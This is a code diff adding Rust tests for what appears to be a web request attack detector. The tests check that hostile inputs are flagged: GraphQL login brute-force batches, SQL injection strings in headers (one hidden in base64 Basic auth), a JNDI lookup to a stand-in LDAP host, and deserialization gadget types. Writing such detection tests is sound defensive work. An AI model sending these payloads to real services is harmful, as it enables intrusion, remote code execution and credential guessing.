@@ -351,3 +351,73 @@ fn references_and_classes_that_reach_out_of_a_document_fire() {
     );
     quiet(&["java.runtime.version", "$5:30", "ftp://h.example/a.iso", "fn f<T>(x: T)"]);
 }
+
+#[test]
+fn heaps_of_operations_in_one_query_are_told() {
+    let json = |query: &str| format!("{{\"query\":{}}}", serde_json::to_string(query).unwrap());
+    let logins: String =
+        (0..12).map(|n| format!("a{n}: login(user: \"x\", code: \"{n}\") {{ token }} ")).collect();
+    let deep = format!("{{{}id{}}}", "a{b{".repeat(12), "}}".repeat(12));
+    let batch: Vec<String> =
+        (0..25).map(|n| json(&format!("mutation {{ login(code: {n}) {{ t }} }}"))).collect();
+    for body in
+        [json(&format!("mutation {{ {logins} }}")), json(&deep), format!("[{}]", batch.join(","))]
+    {
+        let hits = of_body("application/json", &body);
+        assert!(loud(&hits, Kind::Protocol), "{body}: {hits:?}");
+    }
+    let page = "query Page($id: ID!) { now: stats(day: 0) { n } before: stats(day: 1) { n } user(id: $id) { name } }";
+    for body in [json(page), format!("[{0},{0}]", json(page))] {
+        assert!(!loud(&of_body("application/json", &body), Kind::Protocol), "{body}");
+    }
+}
+
+#[test]
+fn headers_that_leave_their_grammar_fire_and_ordinary_ones_do_not() {
+    for (header, kind) in [
+        (("Accept-Language", "en' or 1=1-- "), Kind::Sqli),
+        (("If-Modified-Since", "${jndi:ldap://h.example/a}"), Kind::Template),
+        // admin' or '1'='1
+        (("Authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4"), Kind::Sqli),
+        (("Connection", "close, X-Forwarded-For"), Kind::Protocol),
+        (("Range", "bytes=9-2"), Kind::Protocol),
+        (("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"), Kind::Protocol),
+        (("Proxy", "http://h.example:8080"), Kind::Protocol),
+    ] {
+        let hits = with_headers(&[header]);
+        assert!(loud(&hits, kind), "{header:?}: {hits:?}");
+    }
+    let ordinary = [
+        ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
+        ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
+        ("Authorization", "Basic bGkud2VpOnBhc3N3b3JkIQ=="),
+        ("Connection", "keep-alive, Upgrade"),
+        ("Range", "bytes=0-1023,-512"),
+        ("If-None-Match", "W/\"0815\""),
+        ("Sec-CH-UA", "\"Chromium\";v=\"126\", \"Not/A)Brand\";v=\"8\""),
+    ];
+    let hits = with_headers(&ordinary);
+    assert!(hits.is_empty(), "{hits:?}");
+}
+
+#[test]
+fn types_that_a_mapper_is_told_fire_when_they_are_a_librarys() {
+    let of_json = |body: &str| of_body("application/json", body);
+    for body in [
+        r#"{"@type":"java.net.Inet4Address","val":"h.example"}"#,
+        r#"{"x":{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}}"#,
+        r#"{"py/object":"os.system"}"#,
+    ] {
+        let hits = of_json(body);
+        assert!(loud(&hits, Kind::Deserialization), "{body}: {hits:?}");
+    }
+    for body in [
+        r#"{"@type":"Person","name":"Li Wei"}"#,
+        r#"{"@class":"com.acme.shop.Order","id":7}"#,
+        r#"{"@class":"java.util.ArrayList","items":[]}"#,
+        r#"{"@type":"type.googleapis.com/google.protobuf.Duration","value":"1s"}"#,
+    ] {
+        let hits = of_json(body);
+        assert!(!loud(&hits, Kind::Deserialization), "{body}: {hits:?}");
+    }
+}
